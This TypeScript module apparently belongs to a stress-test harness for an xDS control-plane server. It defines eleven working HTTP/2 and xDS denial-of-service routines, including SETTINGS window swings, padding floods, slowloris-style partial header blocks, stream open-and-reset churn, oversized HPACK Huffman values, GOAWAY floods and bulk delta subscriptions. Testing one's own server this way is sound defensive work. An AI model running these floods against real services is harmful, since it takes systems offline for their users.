// Ours: what looked worth trying after reading the code, and no report has yet.
import { adsDeltaPath, frameMessage } from '@evenkeel/xds';
import { clientPreface, frameFlag } from '@evenkeel/xds/http2';
import type { Attack, Target } from './attacks.ts';
import { field, frame, headers, int32, literal, RawConnection, requestBlock, setting } from './raw-connection.ts';
import { again } from './repeat.ts';

const type = (name: string): string => `type.googleapis.com/envoy.config.${name}`;
const cds = type('cluster.v3.Cluster');
const eds = type('endpoint.v3.ClusterLoadAssignment');
const block = requestBlock();

/** Opens a connection, begins, and then writes what a maker gives for as long as the server takes it. */
export function keepWriting(
  begin: (connection: RawConnection) => void,
  make: (turn: number) => Uint8Array,
): Attack['run'] {
  return async ({ port, over }: Target) =>
    again(over, async () => {
      const connection = await RawConnection.open(port);
      begin(connection);
      for (let turn = 0; connection.isOpen && !over(); turn++) {
        connection.write(make(turn));
        await connection.drained();
      }
      connection.socket.destroy();
    });
}

/** Opens connections, writes something on each, and then a little now and then, so that none is silent. */
function dribble(count: number, first: Uint8Array, drop: Uint8Array): Attack['run'] {
  return async ({ port, over }: Target) =>
    again(over, async () => {
      const connections = await Promise.all(
        Array.from({ length: count }, () => RawConnection.open(port, undefined, false)),
      );
      for (const connection of connections) connection.write(first);
      while (!over() && connections.some(({ isOpen }) => isOpen)) {
        for (const connection of connections) connection.write(drop);
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      for (const { socket } of connections) socket.destroy();
    });
}

export function dataFrames(streamId: number, bytes: Uint8Array): Buffer {
  const frames: Buffer[] = [];
  for (let at = 0; at < bytes.length; at += 16_384)
    frames.push(frame('data', 0, streamId, bytes.subarray(at, at + 16_384)));
  return Buffer.concat(frames);
}

const openStreams = (count: number, path?: string) => (connection: RawConnection) => {
  for (let index = 0; index < count; index++) connection.write(headers(index * 2 + 1, requestBlock(path)));
};

export const message = (...fields: Uint8Array[]): Buffer => frameMessage(Buffer.concat(fields)) as Buffer;
const list = (fieldNumber: number, count: number, of: (index: number) => string): Buffer[] =>
  Array.from({ length: count }, (_, index) => field(fieldNumber, of(index)));

/** A text of characters with the longest codes, which take 30 bits each. */
const longCodes = Buffer.alloc(15_000, 0xff);

export const ownAttacks: Readonly<Record<string, Attack>> = {
  'window-swing': {
    what: 'the window of 100 streams set to 0 and to the most, again and again',
    run: keepWriting(openStreams(100), (turn) => frame('settings', 0, 0, setting(4, turn % 2 === 0 ? 0 : 2 ** 31 - 1))),
  },
  padding: {
    what: 'DATA of one byte with 255 bytes of padding',
    run: keepWriting(openStreams(1), () => {
      const padded = Buffer.alloc(257);
      padded[0] = 255;
      return Buffer.concat(Array.from({ length: 500 }, () => frame('data', frameFlag.padded, 1, padded)));
    }),
  },
  'slow-preface': {
    what: '500 connections that send a header block byte by byte, and never all of it',
    run: dribble(500, frame('headers', 0, 1, block), frame('continuation', 0, 1, Buffer.from([0x83]))),
  },
  'two-prefaces': {
    what: 'the preface again, where frames are expected',
    run: keepWriting(
      () => {},
      () => clientPreface,
    ),
  },
  'stale-nonces': {
    what: 'requests with nonces that nobody sent, 1,000 a write',
    run: keepWriting(openStreams(1), (turn) => {
      const one = (index: number): Buffer =>
        message(field(3, 'a'), field(4, eds), field(5, `${turn * 1_000 + index + 1_000_000}`));
      return dataFrames(1, Buffer.concat(Array.from({ length: 1_000 }, (_, index) => one(index))));
    }),
  },
  'health-watches': {
    what: 'health watches, 100 at once, begun and ended',
    run: keepWriting(
      () => {},
      (turn) =>
        Buffer.concat(
          Array.from({ length: 50 }, (_, index) => {
            const id = (turn * 50 + index) * 2 + 1;
            const open = headers(id, requestBlock('/grpc.health.v1.Health/Watch'));
            const asked = dataFrames(id, message(field(1, `s${index}`)));
            return Buffer.concat([open, asked, frame('rstStream', 0, id, int32(8))]);
          }),
        ),
    ),
  },
  'huffman-codes': {
    what: 'header values of 15 kB in the longest codes, and wrong at the end',
    run: keepWriting(
      () => {},
      (turn) => {
        const value = Buffer.concat([
          Buffer.from([0x00, 1, 0x61, 0xff, 0x80 | ((15_000 - 127) & 0x7f), (15_000 - 127) >> 7]),
          longCodes,
        ]);
        return headers(turn * 2 + 1, Buffer.concat([block, value]), true);
      },
    ),
  },
  'goaway-text': {
    what: 'GOAWAY with 16 kB of text, again and again',
    run: keepWriting(
      () => {},
      () => frame('goAway', 0, 0, Buffer.alloc(16_000, 0x41)),
    ),
  },
  'names-by-turns': {
    what: 'delta: 5,000 names taken and given back on each of 20 streams',
    run: keepWriting(openStreams(20, adsDeltaPath), (turn) => {
      const id = (turn % 20) * 2 + 1;
      const back = Math.floor(turn / 20) % 2 === 1;
      return dataFrames(id, message(field(2, eds), ...list(back ? 4 : 3, 5_000, (index) => `name-${index}`)));
    }),
  },
  'everything-often': {
    what: '100 streams that ask for all clusters, ended and begun anew',
    run: keepWriting(
      () => {},
      (turn) => {
        const id = turn * 2 + 1;
        const ended = id > 100 ? frame('rstStream', 0, id - 100, int32(8)) : Buffer.alloc(0);
        return Buffer.concat([ended, headers(id, block), dataFrames(id, message(field(4, cds)))]);
      },
    ),
  },
  'table-of-trailers': {
    what: 'trailers that fill the header table, on stream after stream',
    run: keepWriting(
      () => {},
      (turn) => {
        const id = turn * 2 + 1;
        return Buffer.concat([headers(id, block), headers(id, literal(0, 'z'.repeat(3_900), `t-${turn}`), true)]);
      },
    ),
  },
};
